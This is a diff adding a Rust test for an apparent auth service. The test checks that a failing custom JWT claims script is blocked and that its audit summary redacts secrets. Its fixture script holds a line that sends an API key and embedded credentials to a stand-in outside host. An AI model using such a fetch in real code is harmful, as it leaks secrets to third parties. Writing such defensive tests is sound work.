@@ -253,6 +253,21 @@ crate::both_backends! {
         assert!(denied.iter().filter(|e| e.target == "script:user").count() == 3);
     }
 
+    fn a_failed_scripts_audit_summary_holds_no_secret_value_or_url_query(db) {
+        let f = fixture_with(&db, 2000, vec!["api.example.com".into()]);
+        variable(&f, "STRIPE_KEY", "sk_live_51HxQ");
+        let script = "async function getCustomJwtClaims({ environmentVariables: env }) {\n  try { await fetch('https://ops:pw@other.example.com/v1/charges?key=' + env.STRIPE_KEY); }\n  catch (error) { throw new Error(String(error) + ' (key ' + env.STRIPE_KEY + ')'); }\n}";
+        save(&f, ScriptKind::Machine, script, OnFailure::Deny);
+        assert_denied(&machine(&f), "a custom claims script failed");
+        let failed = events(&f, "script.failed");
+        let summary = &failed[0].summary;
+        assert!(!summary.to_string().contains("sk_live_51HxQ") && !summary.to_string().contains("pw@"), "{summary}");
+        assert_eq!(summary["failure"], "thrown", "{summary}");
+        let message = summary["message"].as_str().unwrap();
+        assert!(message.contains("fetch to https://other.example.com/v1/charges refused"), "{message}");
+        assert!(message.ends_with("(key [secret:STRIPE_KEY])"), "{message}");
+    }
+
     fn a_looping_script_stops_at_the_limit_and_follows_the_failure_setting(db) {
         let f = fixture(&db, 200);
         save(&f, ScriptKind::Machine, "function getCustomJwtClaims() { while (true) {} }", OnFailure::Deny);
